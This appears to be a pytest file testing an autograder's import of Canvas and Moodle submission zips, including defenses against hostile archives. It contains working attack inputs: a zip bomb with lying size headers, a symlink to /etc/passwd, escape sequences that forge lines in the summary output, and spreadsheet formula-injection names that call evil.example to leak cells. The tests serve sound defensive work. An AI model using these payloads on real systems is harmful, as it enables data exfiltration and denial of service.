"""Importing an LMS's zip loses no one: `python -m autograder collect ASSIGNMENT`.

Real-shaped archives, built by Python's zipfile (the UTF-8 flag set, as Canvas
writes them) and by Info-ZIP's `zip` (no UTF-8 flag, names as bytes), in Canvas's
and Moodle's layouts: each student's id is the LMS's user id, her name (unicode and
underscores kept) goes to the gradebook, Canvas's late marker is listed, and no
timestamp is taken from the zip (both LMSs give every file the download's time), a
resubmission replaces the earlier file (Canvas's "-1", Moodle's " (1)"), links and
files no layout explains are listed with the reason, and feedback is generated after.

Then the attacks of issue 24, each with a second variant: a zip bomb and sizes that
lie, names too long to be files, names that forge lines, names that are formulas in
the exported CSV, names that copy or contain a classmate's, and students who share a name.
"""
import csv
import datetime
import io
import os
import re
import shutil
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

import helpers
from test_roster import HUA, S001, S003, S004, S005, S006, S007
from autograder import collect as lms
from autograder import course as courses
from autograder import export
from autograder.notebooks import NotebookError

pytestmark = pytest.mark.nbgrader

CORRECT = helpers.SUBMISSIONS / "01_softmax" / "correct" / "logsumexp.py"
WRONG = helpers.SUBMISSIONS / "01_softmax" / "wrong" / "axis_ignored.py"
ON_TIME = (2026, 11, 18, 9, 30, 0)
LATE = (2026, 11, 20, 12, 0, 0)
DUE = datetime.datetime(2026, 11, 19, 0, 0, 0)


def _notebook(path=CORRECT):
    return nbformat.writes(helpers.submission("01_softmax", path.read_text()))


class _Cp437Info(zipfile.ZipInfo):
    """An entry named in code page 437 without the UTF-8 flag, as DOS-era zip tools write it."""
    def _encodeFilenameFlags(self):
        return self.filename.encode("cp437"), self.flag_bits


def _canvas_zip_by_python(path):
    with zipfile.ZipFile(path, "w") as archive:
        for name, text, when in [
            ("alice_1001_5001_softmax.ipynb", _notebook(), ON_TIME),
            ("jean_luc_1005_5005_softmax.ipynb", _notebook(WRONG), ON_TIME),
            ("dave_late_1004_5004_softmax.ipynb", _notebook(WRONG), ON_TIME),     # replaced by -1
            ("dave_late_1004_5004_softmax-1.ipynb", _notebook(), LATE),
            ("zoë_1006_5006_softmax.ipynb", _notebook(), ON_TIME),               # UTF-8 flag
            ("readme.txt", "not a submission", ON_TIME),
            ("softmax.ipynb", _notebook(), ON_TIME),                              # whose?
        ]:
            archive.writestr(zipfile.ZipInfo(name, date_time=when), text)
        archive.writestr(_Cp437Info("müller_1008_5008_softmax.ipynb", date_time=ON_TIME), _notebook())
    return path


def _info_zip(path, files, links=()):
    """Write ``files`` ({relative name: text}) to disk and zip them with Info-ZIP's `zip`."""
    folder = path.with_suffix("")
    for name, text in files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        os.utime(target, (datetime.datetime(*ON_TIME).timestamp(),) * 2)
    for name, points_to in links:
        os.symlink(points_to, folder / name)
    subprocess.run(["zip", "-q", "-r", "-y", str(path), "."], cwd=folder, check=True,
                   env={**os.environ, "LC_ALL": "C.UTF-8"})
    return path


def _canvas_zip_by_info_zip(path):
    return _info_zip(path, {"李华_1007_5007_softmax.ipynb": _notebook(WRONG)},
                     links=[("mallory_1009_5009_softmax.ipynb", "/etc/passwd")])


FORMULA = '=HYPERLINK("https:evil.example?q="&A1,"grade")'   # a Moodle full name (no "/": a folder)


def _moodle_zip_by_info_zip(path):
    return _info_zip(path, {
        "Zoë Martin_2001_assignsubmission_file_/softmax.ipynb": _notebook(),
        "Li Hua_2002_assignsubmission_file_/softmax.ipynb": _notebook(WRONG),
        "Li Hua_2002_assignsubmission_file_/softmax-Copy1.ipynb": _notebook(),
        f"{FORMULA}_2003_assignsubmission_file_/softmax.ipynb": _notebook(WRONG),
    })


def test_info_zip_writes_no_utf8_flag_and_the_names_still_decode(tmp_path):
    path = _canvas_zip_by_info_zip(tmp_path / "canvas.zip")
    with zipfile.ZipFile(path) as archive:
        (info,) = [i for i in archive.infolist() if "5007" in i.orig_filename]
    assert not info.flag_bits & 0x800 and info.filename != "李华_1007_5007_softmax.ipynb"  # zipfile's cp437
    assert lms.entry_name(info) == "李华_1007_5007_softmax.ipynb"


@pytest.fixture(scope="module")
def collected(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("lms")
    root = helpers.course(tmp)
    helpers.nbgrader("generate_assignment", "01_softmax", root=root)
    with Gradebook(helpers.gradebook_url(root)) as gradebook:
        gradebook.update_or_create_assignment("01_softmax", duedate=DUE)
    archive = root / "autograder" / "downloaded" / "01_softmax" / "archive"
    archive.mkdir(parents=True)
    _canvas_zip_by_python(archive / "canvas-python.zip")
    _canvas_zip_by_info_zip(tmp / "canvas-infozip.zip").rename(archive / "canvas-infozip.zip")
    moodle = _moodle_zip_by_info_zip(tmp / "moodle.zip")
    run = subprocess.run([sys.executable, "-m", "autograder", "collect", "01_softmax", "--course-root", str(root)],
                         cwd=helpers.REPO, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    moodle_run = subprocess.run([sys.executable, "-m", "autograder", "collect", "01_softmax", str(moodle),
                                 "--course-root", str(root)], cwd=helpers.REPO, capture_output=True, text=True)
    assert moodle_run.returncode == 0, moodle_run.stderr
    return root, run.stdout, moodle_run.stdout


# {student id: the name the LMS wrote}: the id is the LMS's user (Canvas) or participant (Moodle) id.
STUDENTS = {"canvas-1001": "alice", "canvas-1005": "jean_luc", "canvas-1004": "dave", "canvas-1006": "zoë",
            "canvas-1008": "müller", "canvas-1007": "李华", "moodle-2001": "Zoë Martin", "moodle-2002": "Li Hua",
            "moodle-2003": FORMULA}


def test_everyone_is_collected_under_the_lms_id(collected):
    root, _, _ = collected
    submitted = root / "autograder" / "submitted"
    assert {p.name for p in submitted.iterdir()} == set(STUDENTS)
    for student in set(STUDENTS) - {"moodle-2002"}:
        assert sorted(p.name for p in (submitted / student / "01_softmax").iterdir()) == \
            ["softmax.ipynb", "submission_secret.txt"], student
    assert (submitted / "moodle-2002" / "01_softmax" / "softmax-Copy1.ipynb").exists()


def test_the_lms_names_are_the_students_names_in_the_gradebook(collected):
    root, _, _ = collected
    with Gradebook(helpers.gradebook_url(root)) as gradebook:
        assert {s.id: s.last_name for s in gradebook.students} == STUDENTS


def _skipped(out):
    """The lines listing the skipped files, after the line "skipped N file(s):"."""
    lines = out.splitlines()
    (start,) = [i for i, line in enumerate(lines) if line.startswith("skipped ")]
    return lines[start], [line for line in lines[start + 1:] if line.startswith("  ")]


def test_every_skipped_file_is_listed_with_its_reason(collected):
    _, out, moodle_out = collected
    header, skipped = _skipped(out)
    assert header == "skipped 4 file(s):"
    assert sorted(skipped) == sorted([
        "  readme.txt (not a notebook)",
        "  softmax.ipynb (a name neither the Canvas nor the Moodle layout explains)",
        "  mallory_1009_5009_softmax.ipynb (a symbolic link)",
        "  dave_late_1004_5004_softmax.ipynb (superseded by resubmission 1)"])
    assert "marked late by the LMS: canvas-1004" in out
    assert "moodle-2002/softmax-Copy1.ipynb" in moodle_out


@pytest.fixture(scope="module")
def graded(collected):
    root, _, _ = collected
    grade = subprocess.run([sys.executable, "-m", "autograder", "grade", "01_softmax", "--no-progress",
                            "--course-root", str(root)], cwd=helpers.REPO, capture_output=True, text=True,
                           timeout=900)
    assert grade.returncode == 0, grade.stderr
    return root, grade.stdout


def test_the_zips_time_is_no_submission_time_and_no_late_penalty(graded):
    """Canvas and Moodle stamp every file of an export with the download's time (instructor trial,
    issue 24): a penalty from it would make a whole class late.  Lateness is the LMS's."""
    root, out = graded
    assert not list((root / "autograder" / "submitted").glob("*/01_softmax/timestamp.txt"))
    assert f"01_softmax: {len(STUDENTS)} of {len(STUDENTS)} submissions graded" in out
    with Gradebook(helpers.gradebook_url(root)) as gradebook:
        dave = gradebook.find_submission("01_softmax", "canvas-1004")
        assert dave.total_seconds_late == 0 and dave.timestamp is None
        assert dave.score == 7.0                       # the resubmission, not the first file


@pytest.mark.parametrize("marker", ["LATE", "late"])
def test_canvas_late_marker_in_either_case_is_listed(tmp_path, marker):
    """Canvas writes "_LATE_" (older versions lower-cased the whole name)."""
    root = helpers.course(tmp_path)
    result = _run(root, _zip(tmp_path / "canvas.zip", {f"yamadatarou_{marker}_3003_90120_softmax.ipynb": _notebook()}))
    assert result.returncode == 0, result.stderr
    assert "marked late by the LMS: canvas-3003" in result.stdout
    assert _names(root) == {"canvas-3003": "yamadatarou"}


def test_a_moodle_file_uploaded_again_replaces_the_first(tmp_path):
    """Moodle names a second upload of softmax.ipynb "softmax (1).ipynb" beside the first."""
    root = helpers.course(tmp_path)
    folder = "Zoë Müller_5550101_assignsubmission_file"
    result = _run(root, _zip(tmp_path / "moodle.zip", {f"{folder}/softmax.ipynb": _notebook(WRONG),
                                                       f"{folder}/softmax (1).ipynb": _notebook()}))
    assert result.returncode == 0, result.stderr
    assert helpers.submitted(root, "moodle-5550101").read_text() == _notebook()
    assert "superseded by resubmission 1" in result.stdout


def test_grade_reports_the_extra_notebook(graded):
    _, out = graded
    (line,) = [l for l in out.splitlines() if l.strip().startswith("moodle-2002")]
    assert "extra notebook softmax-Copy1.ipynb is not graded" in line


def test_feedback_is_generated_after_collect(graded):
    """An LMS class gets its feedback through the LMS: one HTML file per student to upload."""
    root, _ = graded
    helpers.nbgrader("generate_feedback", "01_softmax", root=root)
    feedback = sorted((root / "autograder" / "feedback").glob("*/01_softmax/*.html"))
    assert {path.parent.parent.name for path in feedback} == set(STUDENTS)


@pytest.mark.parametrize("args, words", [
    (["01_sofmax"], "no exercise named '01_sofmax'"),
    (["01_softmax"], "no zip to collect: expected the LMS's export in"),
])
def test_collect_with_nothing_to_do_exits_non_zero(tmp_path, args, words):
    root = helpers.course(tmp_path)
    result = subprocess.run([sys.executable, "-m", "autograder", "collect", *args, "--course-root", str(root)],
                            cwd=helpers.REPO, capture_output=True, text=True)
    assert result.returncode != 0 and words in result.stderr and len(result.stderr.splitlines()) == 1


def test_a_zip_with_no_submission_exits_non_zero(tmp_path):
    root = helpers.course(tmp_path)
    archive = tmp_path / "wrong.zip"
    with zipfile.ZipFile(archive, "w") as opened:
        opened.writestr("notes.txt", "hello")
    result = subprocess.run([sys.executable, "-m", "autograder", "collect", "01_softmax", str(archive),
                             "--course-root", str(root)], cwd=helpers.REPO, capture_output=True, text=True)
    assert result.returncode != 0 and "collected nothing for 01_softmax" in result.stderr
    assert "notes.txt (not a notebook)" in result.stderr


# --------------------------------------------------------------------------- issue 24: the attacks
HONEST = {"alice_1001_5001_softmax.ipynb": _notebook(), "bob_1002_5002_softmax.ipynb": _notebook(WRONG)}


def _zip(path, entries, when=ON_TIME):
    """A zip by Python's zipfile (the UTF-8 flag set, as Canvas writes them): {entry name: text}."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in entries.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=when), text)
    return path


def _collect(root, *archives):
    """Collect in this process (to measure its memory): the text it prints."""
    out = io.StringIO()
    lms.collect(courses.course_at(root), "01_softmax", archives, out=out)
    return out.getvalue()


def _run(root, *archives):
    """`python -m autograder collect 01_softmax ARCHIVE ...`, as an instructor runs it."""
    return subprocess.run([sys.executable, "-m", "autograder", "collect", "01_softmax", *map(str, archives),
                           "--course-root", str(root)], cwd=helpers.REPO, capture_output=True, text=True,
                          timeout=300)


def _students(root):
    return sorted(p.name for p in courses.course_at(root).submitted.iterdir())


def _names(root):
    """{student id: last_name} in the course's gradebook."""
    with Gradebook(helpers.gradebook_url(root)) as gradebook:
        return {student.id: student.last_name for student in gradebook.students}


def _zeros(archive, name, size=200 << 20):
    """Add the entry ``name`` to an open zip: ``size`` zero bytes, deflated (200 MiB: about 200 KiB)."""
    info = zipfile.ZipInfo(name, date_time=ON_TIME)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w") as entry:
        for _ in range(size >> 20):
            entry.write(bytes(1 << 20))


def _declare_size(path, name, size):
    """Make the archive lie: the local header and the central directory declare ``size`` bytes for ``name``."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        offset = archive.getinfo(name).header_offset
    data[offset + 22:offset + 26] = size.to_bytes(4, "little")           # the local file header
    at = data.find(b"PK\x01\x02")
    while at >= 0:                                                       # the central directory's record
        length = int.from_bytes(data[at + 28:at + 30], "little")
        if data[at + 46:at + 46 + length] == name.encode():
            data[at + 24:at + 28] = size.to_bytes(4, "little")
        at = data.find(b"PK\x01\x02", at + 1)
    path.write_bytes(data)


def _peak(function):
    """(what ``function`` returns, the peak of the memory Python allocated while it ran)."""
    tracemalloc.start()
    try:
        return function(), tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def bomb_archive(archive):
    """A Canvas zip under 2 MiB: the HONEST students, carol's honest 12 MiB notebook, mallory's entry
    of 200 KiB inflating to 200 MiB, and trudy's, whose headers declare it 1000 bytes; and carol's notebook."""
    large = helpers.submission("01_softmax", CORRECT.read_text())
    large.cells.append(nbformat.v4.new_markdown_cell("x" * (12 << 20)))
    large = nbformat.writes(large)
    with zipfile.ZipFile(archive, "w") as opened:
        for name, text in {**HONEST, "carol_1003_5003_softmax.ipynb": large}.items():
            opened.writestr(zipfile.ZipInfo(name, date_time=ON_TIME), text, zipfile.ZIP_DEFLATED)
        _zeros(opened, "mallory_1009_5009_softmax.ipynb")
        _zeros(opened, "trudy_1010_5010_softmax.ipynb")
    _declare_size(archive, "trudy_1010_5010_softmax.ipynb", 1000)
    assert archive.stat().st_size < 2 << 20
    return archive, large


def test_a_zip_bomb_costs_no_memory_and_stops_no_one(tmp_path):
    """The red team's entry of 1 MB inflating to 0.9 GB cost collect 1.76 GiB.  Here one of 200 KiB
    inflating to 200 MiB is refused by its declared size, one whose headers declare 1000 bytes is
    refused once read (its checksum fails), an honest 12 MiB notebook is streamed to disk, not held
    in memory, and the others are collected."""
    root = helpers.course(tmp_path)
    archive, large = bomb_archive(tmp_path / "canvas.zip")
    with Gradebook(helpers.gradebook_url(root)):   # nbgrader loaded and its gradebook made before measuring
        pass
    out, peak = _peak(lambda: _collect(root, archive))
    assert peak < 4 << 20, f"{peak / 2**20:.1f} MiB"   # a third of the 12 MiB notebook
    assert _students(root) == ["canvas-1001", "canvas-1002", "canvas-1003"]
    assert helpers.submitted(root, "canvas-1003").read_text() == large
    _, skipped = _skipped(out)
    assert skipped[0] == (f"  mallory_1009_5009_softmax.ipynb ({200 << 20} bytes once inflated, more than the "
                          "16 MiB a notebook may have)")
    assert skipped[1].startswith("  trudy_1010_5010_softmax.ipynb (cannot be read from the archive "
                                 "(BadZipFile: Bad CRC-32"), skipped
    assert not list(courses.course_at(root).submitted.rglob(".collecting-*"))


def test_the_inflated_bytes_are_bounded_whatever_the_entry_declares(tmp_path):
    """The second line of defence: an entry is copied in chunks and stopped once past the bound,
    whatever size it declares (here: its true 200 MiB, the declared check bypassed)."""
    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w") as opened:
        _zeros(opened, "mallory_1009_5009_softmax.ipynb")
    part = tmp_path / "part"
    with zipfile.ZipFile(archive) as opened:
        info = opened.infolist()[0]
        refused, peak = _peak(lambda: pytest.raises(lms._Unreadable, lms._copy_entry, opened, info, part))
    assert "inflates past the 16 MiB a notebook may have (declared 209715200 bytes)" in str(refused.value)
    assert peak < 4 << 20, f"{peak / 2**20:.1f} MiB"
    assert part.stat().st_size <= lms.MAX_NOTEBOOK_BYTES


def test_many_tiny_entries_and_many_notebooks_are_bounded(tmp_path):
    """20,000 empty files and 31 notebooks from one learner: each listed, her notebooks beyond the
    bound skipped (the exercise's kept first), her classmates collected, in seconds."""
    root = helpers.course(tmp_path)
    entries = {**HONEST, **{f"mallory_1009_5009_note{i:05}.txt": "" for i in range(20_000)},
               **{f"mallory_1009_5009_copy{i:02}.ipynb": "{}" for i in range(30)},
               "mallory_1009_5009_softmax.ipynb": _notebook(WRONG)}
    archive = _zip(tmp_path / "canvas.zip", entries)
    started = time.monotonic()
    out = _collect(root, archive)
    assert time.monotonic() - started < 60
    kept = sorted(p.name for p in helpers.submitted(root, "canvas-1009").parent.glob("*.ipynb"))
    assert len(kept) == lms.MAX_NOTEBOOKS_PER_STUDENT == 8 and "softmax.ipynb" in kept
    header, skipped = _skipped(out)
    assert header == f"skipped {20_000 + 31 - 8} file(s):" and len(skipped) == 20_000 + 31 - 8
    assert sum(line.endswith("(more than 8 notebooks from canvas-1009)") for line in skipped) == 31 - 8
    assert _students(root) == ["canvas-1001", "canvas-1002", "canvas-1009"]


def test_an_archive_with_too_large_a_directory_is_refused_before_zipfile_reads_it(tmp_path, monkeypatch):
    root = helpers.course(tmp_path)
    large = _zip(tmp_path / "large.zip", {**{f"x{i:05}.txt": "" for i in range(2000)},
                                          "carol_1003_5003_softmax.ipynb": _notebook()})
    canvas = _zip(tmp_path / "canvas.zip", HONEST)
    monkeypatch.setattr(lms, "MAX_DIRECTORY_BYTES", 64 << 10)
    opened, real = [], zipfile.ZipFile.__init__
    monkeypatch.setattr(zipfile.ZipFile, "__init__", lambda self, file, *a, **k: (
        opened.append(Path(getattr(file, "name", file))), real(self, file, *a, **k))[1])
    out = _collect(root, large, canvas)
    assert large not in opened and canvas in opened
    _, skipped = _skipped(out)
    assert skipped[0].startswith("  large.zip (not a readable zip (ValueError: a directory of 1")
    assert skipped[0].endswith(f"bytes, more than the {64 << 10} an LMS's export needs))")
    assert _students(root) == ["canvas-1001", "canvas-1002"]


def test_a_270_character_name_stops_no_one(tmp_path):
    """A 270-character upload name (ENAMETOOLONG) stopped collect, and the students sorted after her
    were never imported.  Now her file is skipped with its reason and everyone else is collected; a
    Moodle full name that long is no folder name any more, only a name, bounded in the gradebook."""
    root = helpers.course(tmp_path)
    long_file = "e" * 270 + ".ipynb"
    canvas = _zip(tmp_path / "canvas.zip", {f"aaron_1000_5000_{long_file}": _notebook(), **HONEST})
    moodle = _zip(tmp_path / "moodle.zip", {"M" * 270 + "_2012_assignsubmission_file_/softmax.ipynb": _notebook()})
    result = _run(root, canvas, moodle)
    assert result.returncode == 0, result.stderr
    assert _students(root) == ["canvas-1001", "canvas-1002", "moodle-2012"]
    assert f"  aaron_1000_5000_{long_file} (a file name longer than 255 bytes)" in result.stdout.splitlines()
    assert _names(root)["moodle-2012"] == "M" * 128


def test_a_student_who_cannot_be_written_stops_no_one_and_an_unreadable_file_keeps_the_earlier_import(tmp_path):
    root = helpers.course(tmp_path)
    assert _run(root, _zip(tmp_path / "first.zip", HONEST)).returncode == 0
    earlier = helpers.submitted(root, "canvas-1002").read_bytes()
    (courses.course_at(root).submitted / "canvas-1003").write_text("a file where carol's folder goes")
    second = _zip(tmp_path / "second.zip", {**HONEST, "carol_1003_5003_softmax.ipynb": _notebook()})
    with zipfile.ZipFile(second) as opened:   # bob's new file: one byte changed, its checksum fails
        info = opened.getinfo("bob_1002_5002_softmax.ipynb")
        start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data = bytearray(second.read_bytes())
    data[start + 100] ^= 0xFF
    second.write_bytes(data)
    result = _run(root, second)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith("collected 1 submission(s) of 01_softmax")
    assert "  carol_1003_5003_softmax.ipynb (canvas-1003 not collected (NotADirectoryError: Not a directory))" in lines
    assert any(line.startswith("  bob_1002_5002_softmax.ipynb (cannot be read from the archive") for line in lines)
    assert helpers.submitted(root, "canvas-1002").read_bytes() == earlier    # bob's earlier import, whole
    assert helpers.submitted(root, "canvas-1001").read_text() == HONEST["alice_1001_5001_softmax.ipynb"]


def test_a_name_cannot_forge_a_line_of_the_summary(tmp_path):
    """Upload names were printed as they are: a newline and an escape sequence forged the line
    "collected ... nothing skipped".  Now every name is quoted, every line made safe."""
    root = helpers.course(tmp_path)
    forged = "collected 30 submission(s) of 01_softmax, nothing skipped"
    archive = _zip(tmp_path / "canvas.zip", {
        **HONEST,
        f"mallory_1009_5009_x\n{forged}\x1b[2K.ipynb": _notebook(),     # an extra notebook of hers
        f"\r{forged}\n\x1b]0;owned\x07.txt": "",                          # no one's: skipped
    })
    result = _run(root, archive)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith("collected 3 submission(s) of 01_softmax")
    assert not [line for line in lines if line.startswith("collected 30")]
    assert not set("\x1b\x07\r") & set(result.stdout)
    assert f"canvas-1009/'x\\n{forged}\\x1b[2K.ipynb'" in lines[1]
    assert f"  '\\r{forged}\\n\\x1b]0;owned\\x07.txt' (not a notebook)" in lines


def test_invisible_characters_in_names_are_shown_not_obeyed(tmp_path):
    """A right-to-left override and a zero-width joiner: written out, in the terminal and the gradebook."""
    root = helpers.course(tmp_path)
    archive = _zip(tmp_path / "canvas.zip", {**HONEST, "eve\u202e_1013_5013_softmax\u200d.ipynb": _notebook(),
                                             "\u202egnp.ipynb": ""})
    result = _run(root, archive)
    assert result.returncode == 0, result.stderr
    assert "\u202e" not in result.stdout and "\u200d" not in result.stdout
    assert "canvas-1013/'softmax\\u200d.ipynb'" in result.stdout
    assert "  '\\u202egnp.ipynb' (a name neither the Canvas nor the Moodle layout explains)" in result.stdout
    assert _names(root)["canvas-1013"] == "eve\ufffd"


def _export(root, tmp_path, plugin="autograder.export.SpreadsheetSafeCsvExportPlugin"):
    """`nbgrader export` with the course's configuration and ``plugin`` (what nbgrader_config.py sets):
    the rows of the CSV."""
    exported = tmp_path / "grades.csv"
    helpers.nbgrader("export", "--to", str(exported), f"--ExportApp.plugin_class={plugin}", root=root)
    with open(exported, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_a_formula_for_a_name_is_text_in_the_exported_csv(collected, tmp_path):
    """A Moodle full name =HYPERLINK(...) became a student id, then a formula cell of `nbgrader export`.
    Now it is the student's name, and its cell starts with a quote."""
    root, _, _ = collected
    rows = {row["student_id"]: row for row in _export(root, tmp_path)}
    assert set(rows) == set(STUDENTS)
    assert rows["moodle-2003"]["last_name"] == "'" + FORMULA
    assert rows["canvas-1007"]["last_name"] == "李华"


def test_no_text_in_the_gradebook_makes_a_formula_a_column_or_a_row_of_the_csv(tmp_path):
    """Ids and names from anywhere (a hand-added student, another collector): formulas are quoted,
    a comma stays in its cell, a line break cannot write a row; nbgrader's own plugin fails this."""
    root = helpers.course(tmp_path)
    forged_row = "x\n01_softmax,,,canvas-1666,,,,10.0,0.0,10.0,10.0"
    with Gradebook(helpers.gradebook_url(root)) as gradebook:
        gradebook.update_or_create_assignment("01_softmax", duedate=DUE)
        gradebook.update_or_create_student('=HYPERLINK("http://evil.example/","x")', last_name="@SUM(A1)",
                                           first_name="+1", email="-1+2")
        gradebook.update_or_create_student("canvas-1002", last_name=forged_row, first_name="Smith, John",
                                           email="\tx")
    rows = _export(root, tmp_path)
    assert [row["student_id"] for row in rows] == ['\'=HYPERLINK("http://evil.example/","x")', "canvas-1002"]
    assert [(row["last_name"], row["first_name"], row["email"]) for row in rows] == [
        ("'@SUM(A1)", "'+1", "'-1+2"), (forged_row, "Smith, John", "'\tx")]
    assert all(float(row["score"]) == 0.0 and row["assignment"] == "01_softmax" for row in rows)
    stock = _export(root, tmp_path, plugin="nbgrader.plugins.export.CsvExportPlugin")
    assert len(stock) != 2 or stock[0]["student_id"].startswith("=")


@pytest.mark.filterwarnings("ignore:Object of type:sqlalchemy.exc.SAWarning")   # nbgrader's own autoflush
def test_plain_grades_export_to_the_same_bytes_as_nbgraders_csv(tmp_path):
    """Only what needs it changes: without a formula, a comma or a line break, nbgrader's file, byte for byte."""
    from nbgrader.plugins.export import CsvExportPlugin
    root = helpers.course(tmp_path)
    with Gradebook(helpers.gradebook_url(root)) as gradebook:
        gradebook.update_or_create_assignment("01_softmax", duedate=DUE)
        gradebook.update_or_create_assignment("02_attention_weights")
        gradebook.update_or_create_student("canvas-1001", last_name="Zoë Martin", first_name="", email="z@x.org")
        gradebook.update_or_create_student("moodle-2002")
        gradebook.add_submission("01_softmax", "moodle-2002", timestamp=datetime.datetime(*LATE))
        for plugin, name in [(CsvExportPlugin, "stock.csv"), (export.SpreadsheetSafeCsvExportPlugin, "safe.csv")]:
            plugin(to=str(tmp_path / name), assignment=["01_softmax"]).export(gradebook)
    stock, safe_csv = (tmp_path / "stock.csv").read_bytes(), (tmp_path / "safe.csv").read_bytes()
    assert stock == safe_csv and stock.count(b"\n") == 3 and b"2026-11-20 12:00:00" in stock


def test_numbers_stay_numbers_and_only_text_is_prefixed():
    """A score is never negative in nbgrader; a negative number is a number, not a formula, and is
    written as nbgrader writes it.  Text that starts like a formula (or a sign) is prefixed."""
    row = {**dict.fromkeys(export.COLUMNS), "assignment": "-01", "student_id": "@x", "last_name": "O'Brien",
           "first_name": "=1", "raw_score": -1.5, "late_submission_penalty": -0.5, "score": 0.0, "max_score": 10.0}
    cells = dict(zip(export.COLUMNS, export.cells(row)))
    assert (cells["raw_score"], cells["late_submission_penalty"], cells["score"]) == ("-1.5", "-0.5", "0.0")
    assert (cells["assignment"], cells["student_id"], cells["first_name"]) == ("'-01", "'@x", "'=1")
    assert (cells["last_name"], cells["email"], cells["timestamp"]) == ("O'Brien", "", "")


def test_a_learner_renaming_herself_after_a_classmate_changes_nothing_for_the_classmate(tmp_path):
    """Renaming herself "ALICE  SMITH" made a learner's id collide with Alice's, and both were refused.
    Now each is her participant id: both are collected, Alice with her own notebook."""
    root = helpers.course(tmp_path)
    alice, folder = _notebook(), "_assignsubmission_file_/softmax.ipynb"
    archive = _zip(tmp_path / "moodle.zip", {f"Alice Smith_2020{folder}": alice,
                                             f"ALICE  SMITH_2021{folder}": _notebook(WRONG)})
    result = _run(root, archive)
    assert result.returncode == 0, result.stderr
    assert _students(root) == ["moodle-2020", "moodle-2021"]
    assert helpers.submitted(root, "moodle-2020").read_text() == alice
    assert _names(root) == {"moodle-2020": "Alice Smith", "moodle-2021": "ALICE SMITH"}


@pytest.mark.parametrize("entry", [
    "mallory_1001_5001_1666_7666_softmax.ipynb",     # her Canvas name: "mallory 1001! 5001"
    "mallory_1666_7667_x_1001_5001_softmax.ipynb",   # her file: x_1001_5001_softmax.ipynb
    "mallory_1001_5001_1666_7668_.ipynb",            # that name, and a file named ".ipynb"
    "_1666_7669_a_1001_5001_softmax-8.ipynb",        # a name Canvas writes empty (emoji only), red team
], ids=["in-the-name", "in-the-file-name", "nothing-after-her-own-ids", "empty-name"])
def test_a_classmates_ids_in_a_name_take_nothing_from_her(tmp_path, entry):
    """Canvas writes "_<user id>_<attachment id>_" after the name: a learner who writes Alice's ids
    into her name or file name makes her own entry unreadable, never Alice's."""
    root = helpers.course(tmp_path)
    result = _run(root, _zip(tmp_path / "canvas.zip", {**HONEST, entry: _notebook(WRONG)}))
    assert result.returncode == 0, result.stderr
    assert _students(root) == ["canvas-1001", "canvas-1002"]
    assert helpers.submitted(root, "canvas-1001").read_text() == HONEST["alice_1001_5001_softmax.ipynb"]
    (line,) = [line for line in result.stdout.splitlines() if line.startswith(f"  {entry} (a name that reads as ")]
    assert "canvas-1001" in line and "canvas-1666" in line and line.endswith("whose it is cannot be told)")


def test_two_students_with_one_name_are_two_students(tmp_path):
    """Two real students with one full name were both dropped, with exit status 0."""
    root = helpers.course(tmp_path)
    moodle = _zip(tmp_path / "moodle.zip", {"Li Hua_2002_assignsubmission_file_/softmax.ipynb": _notebook(),
                                            "Li Hua_2004_assignsubmission_file_/softmax.ipynb": _notebook(WRONG)})
    canvas = _zip(tmp_path / "canvas.zip", {"smithjohn_1020_5020_softmax.ipynb": _notebook(WRONG),
                                            "smithjohn_1021_5021_softmax.ipynb": _notebook()})
    result = _run(root, moodle, canvas)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("collected 4 submission(s)") and "skipped" not in result.stdout
    assert _names(root) == {"moodle-2002": "Li Hua", "moodle-2004": "Li Hua",
                            "canvas-1020": "smithjohn", "canvas-1021": "smithjohn"}
    assert helpers.submitted(root, "moodle-2002").read_text() == _notebook()
    assert helpers.submitted(root, "canvas-1021").read_text() == _notebook()


def test_one_id_for_two_names_in_one_archive_is_an_error_that_names_both(tmp_path):
    """No LMS writes that (a hand-made or damaged archive): neither is collected, everyone else is,
    and the run exits non-zero with one line naming both."""
    root = helpers.course(tmp_path)
    archive = _zip(tmp_path / "moodle.zip", {
        "Alice Smith_2030_assignsubmission_file_/softmax.ipynb": _notebook(),
        "Eve Jones_2030_assignsubmission_file_/softmax.ipynb": _notebook(WRONG),
        "Bob Brown_2031_assignsubmission_file_/softmax.ipynb": _notebook()})
    result = _run(root, archive)
    assert result.returncode != 0 and len(result.stderr.splitlines()) == 1, result.stderr
    assert "moodle-2030: 'Alice Smith' ('Alice Smith_2030_assignsubmission_file_/softmax.ipynb' in moodle.zip) " \
           "and 'Eve Jones' (" in result.stderr
    assert result.stdout.startswith("collected 1 submission(s)")
    assert _students(root) == ["moodle-2031"]


def test_one_id_in_two_exports_is_one_student_renamed(tmp_path):
    root = helpers.course(tmp_path)
    older = _zip(tmp_path / "october.zip", {"Zoë Martin_2001_assignsubmission_file_/softmax.ipynb": _notebook(WRONG)})
    newer = _zip(tmp_path / "november.zip", {"Zoë Martin-Dupont_2001_assignsubmission_file_/softmax.ipynb":
                                             _notebook()}, when=LATE)
    result = _run(root, older, newer)
    assert result.returncode == 0, result.stderr
    assert _students(root) == ["moodle-2001"] and _names(root) == {"moodle-2001": "Zoë Martin-Dupont"}
    assert helpers.submitted(root, "moodle-2001").read_text() == _notebook()


def test_folders_of_collects_that_used_names_as_ids_are_pointed_out(tmp_path):
    """Collects before issue 24 named the folder after the student's name: both would be graded."""
    root = helpers.course(tmp_path)
    helpers.write(helpers.submission("01_softmax", CORRECT.read_text()), helpers.submitted(root, "alice"))
    result = _run(root, _zip(tmp_path / "canvas.zip", HONEST))
    assert result.returncode == 0, result.stderr
